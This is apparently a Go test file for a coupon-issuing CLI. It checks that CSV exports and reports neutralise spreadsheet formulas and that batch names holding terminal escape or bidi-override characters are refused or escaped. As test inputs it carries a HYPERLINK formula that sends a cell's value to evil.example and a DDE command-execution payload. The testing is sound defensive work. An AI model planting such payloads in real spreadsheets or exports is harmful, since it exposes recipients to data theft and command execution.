package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/issuer-dev/issuer/internal/excelcsv"
)

const formulaName = `=HYPERLINK("http://evil.example/?x="&A2,"Click")`

// requireNoFormula fails when a cell of the CSV out begins as a
// spreadsheet formula does (a plain negative number is not one).
func requireNoFormula(t *testing.T, name, out string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, excelcsv.BOM))).ReadAll()
	require.NoError(t, err, "%s: %s", name, out)
	require.NotEmpty(t, recs, name)
	number := regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !number.MatchString(cell) &&
				!regexp.MustCompile(`^\t[0-9]+$`).MatchString(cell) {
				t.Fatalf("%s: a cell a spreadsheet would run: %q", name, cell)
			}
		}
	}
}

// Every CSV the CLI writes — the export (Excel and plain, to stdout and to
// a file), the batch and reconciliation reports, the rejects file — hands
// a spreadsheet no formula, and a program reads the values back exactly.
func TestCLICSVFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	list := b.write(t, "evil.csv", "openid,out_request_no\noEvil0001,-A1*1000\noEvil0002,X-2\n=cmd|' /C calc'!A0,X1\n")
	rejects := filepath.Join(b.dir, "rejects.csv")
	r := b.issuer(t, "", "import", "--stock", "9856000", "--name", formulaName, "--max-rejects", "1", "--rejects", rejects, "--json", list)
	require.Equal(t, 0, r.code, r.stderr)
	var rep struct {
		BatchID int64 `json:"batch_id"`
	}
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &rep))
	id := strconv.FormatInt(rep.BatchID, 10)

	out := filepath.Join(b.dir, "export.csv")
	files := map[string][]string{
		"export":           {"batch", "export", id},
		"export --plain":   {"batch", "export", id, "--plain"},
		"report batch":     {"report", "batch", id, "--format", "csv"},
		"report reconcile": {"report", "reconcile", "--format", "csv"},
		"report plain":     {"report", "reconcile", "--format", "csv", "--plain"},
	}
	got := map[string]string{}
	for name, args := range files {
		r := b.issuer(t, "", args...)
		require.Equal(t, 0, r.code, "%s: %s", name, r.stderr)
		got[name] = r.stdout
	}
	r = b.issuer(t, "", "batch", "export", id, "-o", out)
	require.Equal(t, 0, r.code, r.stderr)
	for name, path := range map[string]string{"export -o": out, "rejects": rejects} {
		raw, err := os.ReadFile(path)
		require.NoError(t, err)
		got[name] = string(raw)
	}
	for name, s := range got {
		requireNoFormula(t, name, s)
	}
	require.True(t, strings.HasPrefix(got["export"], excelcsv.BOM+strings.Join(exportHeader, ",")+"\n"), "the header is the contract's")
	require.Contains(t, got["export --plain"], "oEvil0001,'-A1*1000,pending")
	require.Contains(t, got["report reconcile"], `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`)

	recs, err := excelcsv.ReadAll(strings.NewReader(got["export"]))
	require.NoError(t, err)
	require.Equal(t, []string{"-A1*1000", "X-2"}, []string{recs[1][1], recs[2][1]}, "read back exactly")
	recs, err = excelcsv.ReadAll(strings.NewReader(got["rejects"]))
	require.NoError(t, err)
	require.Equal(t, "=cmd|' /C calc'!A0,X1", recs[1][1])
}

var exportHeader = []string{"openid", "out_request_no", "status", "outcome", "coupon_id", "wx_code", "wx_message", "attempts", "last_attempt_at"}

// A batch name is at most 100 characters of plain text: import refuses
// anything else and stores nothing; a name stored before the rule reaches
// the terminal as escapes, never as control sequences.
func TestCLIBatchNames(t *testing.T) {
	t.Parallel()
	b := setup(t)
	list := b.write(t, "list.csv", "openid\noName0001\n")
	for _, name := range []string{"spring\x1b[2J\x1b]0;pwned\x07", strings.Repeat("春", 101), "two\nlines", "rtl\u202eexe"} {
		r := b.issuer(t, "", "import", "--stock", "9856000", "--name", name, list)
		require.Equal(t, 1, r.code, "%q: %s", name, r.stderr)
		require.Contains(t, r.stderr, "batch name", name)
	}
	r := b.issuer(t, "", "batch", "list", "--json")
	require.Equal(t, "[]\n", r.stdout, "nothing stored")

	r = b.issuer(t, "", "import", "--stock", "9856000", "--name", strings.Repeat("春", 100), list)
	require.Equal(t, 0, r.code, r.stderr)
	_, err := b.schema.DB.Exec(`UPDATE batches SET name = E'old\x1b[31mred\x07\r\n\u202eevil', status = 'halted', halt_reason = E'x\x1b[2J'`)
	require.NoError(t, err)
	for _, args := range [][]string{{"batch", "list"}, {"batch", "show", "1"}} {
		r := b.issuer(t, "", args...)
		require.Equal(t, 0, r.code, r.stderr)
		for _, c := range []string{"\x1b", "\x07", "\r", "\u202e"} {
			require.NotContains(t, r.stdout, c, args)
		}
		require.Contains(t, r.stdout, `old\x1b[31mred\x07\x0d\x0a\u202eevil`, args)
	}
	r = b.issuer(t, "", "batch", "show", "1", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NotContains(t, r.stdout, "\x1b", "JSON escapes control characters")
}

// batch guards changes a batch's guards as an operator's audited act; a
// cap below what the batch has on its way is refused and changes nothing.
func TestCLIBatchGuards(t *testing.T) {
	t.Parallel()
	b := setup(t)
	// Loosening a guard takes an operator's credential (TestCLIIdentity).
	op := b.as(t, "olga", "operator")
	list := b.write(t, "list.csv", "openid,coupon_value\noGuard0001,500\noGuard0002,500\noGuard0003,500\n")
	r := b.issuer(t, "", "import", "--stock", "9856000", list)
	require.Equal(t, 0, r.code, r.stderr)

	r = op.issuer(t, "", "batch", "guards", "1", "--window", "09:00-21:00", "--start-at", "2030-01-02 10:00", "--priority", "3")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "batch 1: no spend cap, window 09:00-21:00 (Asia/Shanghai), starts 2030-01-02 10:00")
	require.Contains(t, r.stdout, "priority 3")

	r = op.issuer(t, "", "batch", "guards", "1", "--window", "none", "--start-at", "none", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	var bt map[string]any
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &bt))
	require.NotContains(t, bt, "window")
	require.NotContains(t, bt, "start_at")
	require.EqualValues(t, 3, bt["priority"])

	r = op.issuer(t, "", "batch", "guards", "1", "--max-amount-yuan", "10")
	require.Equal(t, 1, r.code)
	require.Contains(t, r.stderr, "pause it first")

	r = b.issuer(t, "", "batch", "pause", "1")
	require.Equal(t, 0, r.code, r.stderr)
	// Two coupons went out while the batch had no cap.
	_, err := b.schema.DB.Exec(`UPDATE recipients SET status = 'issued', outcome = 'issued', coupon_id = 'C' || id, attempts = 1
		WHERE openid IN ('oGuard0001', 'oGuard0002')`)
	require.NoError(t, err)
	r = op.issuer(t, "", "batch", "guards", "1", "--max-amount-yuan", "9.99")
	require.Equal(t, 1, r.code)
	require.Contains(t, r.stderr, "a cap of 9.99 yuan is below the 10.00 yuan already issued, in flight or in doubt")
	r = op.issuer(t, "", "batch", "guards", "1", "--max-amount-yuan", "12.50")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "spend cap 12.50 yuan (10.00 yuan issued, in flight or in doubt)")

	r = op.issuer(t, "", "batch", "guards", "1")
	require.Equal(t, 2, r.code, "nothing to change is a usage error")
	r = op.issuer(t, "", "batch", "guards", "1", "--window", "25:00-26:00")
	require.Equal(t, 1, r.code)
	require.Contains(t, r.stderr, "HH:MM-HH:MM")
	r = op.issuer(t, "", "batch", "guards", "1", "--max-amount-yuan", "0")
	require.Equal(t, 1, r.code)

	var acts []string
	require.NoError(t, b.schema.DB.Select(&acts, `SELECT outcome || ': ' || (detail #>> '{}') FROM audit_log WHERE action = 'guards' ORDER BY id`))
	require.Equal(t, []string{
		"ok: window 09:00-21:00 (was none); start 2030-01-02T10:00:00+08:00 (was none); priority 3 (was 0); loosens the guards",
		"ok: window none (was 09:00-21:00); start none (was 2030-01-02T10:00:00+08:00); loosens the guards",
		"error: spend cap 10.00 yuan (was none)",
		"error: spend cap 9.99 yuan (was none)",
		"ok: spend cap 12.50 yuan (was none)",
	}, acts)
}
